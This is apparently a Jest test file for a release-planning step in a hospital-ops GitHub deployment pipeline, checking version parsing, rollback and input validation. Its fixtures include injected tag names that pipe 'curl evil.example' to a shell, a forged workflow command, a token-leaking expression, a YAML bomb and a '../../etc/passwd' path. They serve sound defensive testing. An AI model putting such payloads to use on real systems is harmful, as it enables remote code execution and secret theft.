import { readFileSync } from 'node:fs';
import { afterEach, beforeEach, expect, test } from '@jest/globals';
import type { Job, Ran } from '../support/bundle.ts';
import { createJob, runBundle } from '../support/bundle.ts';
import { expectContract, HOSTILE, HOSTILE_LINE } from '../support/hostile.ts';

const CONFIG = '.github/hospital-ops.yml';
const FILE = readFileSync(`test/fixtures/hospital-ops/${CONFIG}`, 'utf8');
const SHA = 'c'.repeat(40);
const IMAGE = `127.0.0.1:5000/hospital-ops-api@sha256:${'a'.repeat(64)}`;

let job: Job;
beforeEach(() => {
  job = createJob();
  job.write(CONFIG, FILE);
});
afterEach(() => job.remove());

const plan = async (
  given: Record<string, string>,
  event: unknown = {},
  env: Record<string, string> = {},
): Promise<Ran> => {
  const usual = { config: CONFIG, environment: 'production', sha: SHA, services: '["api"]' };
  const ran = await runBundle('release-plan', job, { inputs: { ...usual, ...given }, event, env });
  expectContract(ran);
  for (const name of ['images', 'services', 'migrations', 'checks']) {
    if (ran.outputs[name]) JSON.parse(ran.outputs[name] ?? '');
  }
  return ran;
};

test('a release is planned, and its way back', async () => {
  const ran = await plan({ images: JSON.stringify({ api: IMAGE }), 'allow-build': 'true' });
  expect(ran.code).toBe(0);
  expect(JSON.parse(ran.outputs.services ?? '')).toEqual([expect.objectContaining({ name: 'api', image: IMAGE })]);
  const deployed = [
    { service: 's', name: 'api', outcome: 'deployed', old: { 'task-definition': 'arn:old' } },
    { service: 't', name: 'web', outcome: 'rolled-back', old: { 'task-definition': 'arn:other' } },
  ];
  const back = await plan({ deployed: JSON.stringify(deployed) });
  expect(JSON.parse(back.outputs.services ?? '')).toEqual([{ service: 's', name: 'api', 'rollback-to': 'arn:old' }]);
});

test.each([
  ['a command', 'v1.0.0"; curl evil.example | sh; "'],
  ['a substitution', 'v1$(curl${IFS}evil.example)'],
  ['a workflow command', 'v1\n::set-output name=version::FORGED'],
  ['an expression', 'v1${{ github.token }}'],
  ['without end', `v1${'9'.repeat(5_000)}`],
])('a tag whose name is %s names no version', async (_, tag) => {
  const ran = await plan({}, { release: { tag_name: tag } }, { GITHUB_REF: `refs/tags/${tag.replace(/\n/g, '')}` });
  expect([ran.code, ran.outputs.version]).toEqual([1, '']);
});

test('a tag that is a version names it', async () => {
  const ran = await plan({}, {}, { GITHUB_REF: 'refs/tags/v1.2.3-rc.1+7' });
  expect([ran.code, ran.outputs.version]).toEqual([0, '1.2.3-rc.1+7']);
});

test('inputs that are none end the step', async () => {
  job.write(
    'bomb.yml',
    `a: &a [x,x,x,x,x,x,x,x,x]\n${['b', 'c', 'd', 'e', 'f'].map((name, at) => `${name}: &${name} [${Array(9).fill(`*${'abcdef'[at]}`).join(',')}]`).join('\n')}`,
  );
  job.write('deep.yml', `${'{a: '.repeat(9_000)}`);
  job.write('hostile.yml', `project: ${JSON.stringify(HOSTILE)}\nservices: { ${JSON.stringify(HOSTILE_LINE)}: {} }\n`);
  const cases: Array<[Record<string, string>, RegExp]> = [
    [{ config: 'bomb.yml' }, /`config`/],
    [{ config: 'deep.yml' }, /`config`/],
    [{ config: 'hostile.yml' }, /`config`/],
    [{ config: '../../etc/passwd' }, /`config`/],
    [{ config: 'nowhere.yml' }, /`config`/],
    [{ environment: 'prodution' }, /did you mean "production"/],
    [{ environment: HOSTILE_LINE }, /no environment/],
    [{ sha: 'main' }, /full commit SHA/],
    [{ services: '["aip"]' }, /no service "aip"/],
    [{ services: '{}' }, /JSON array/],
    [{ services: '[1]' }, /JSON array/],
    [{ services: '' }, /`services`/],
    [{ images: '{"api":"latest"}' }, /no reference/],
    [{ images: '{}' }, /no image for the service "api"/],
    [{ images: JSON.stringify({ api: `x:${HOSTILE}` }) }, /no reference/],
    [{ deployed: '{}' }, /ecs-deploy/],
    [{ deployed: '[null]' }, /ecs-deploy/],
    [{ deployed: '[]', images: `{"api":"${IMAGE}"}` }, /not both/],
  ];
  for (let at = 0; at < cases.length; at += 5) {
    await Promise.all(
      cases.slice(at, at + 5).map(async ([given, message]) => {
        const ran = await plan(given);
        expect([given, ran.code, ran.log]).toEqual([given, 1, expect.stringMatching(message)]);
      }),
    );
  }
});
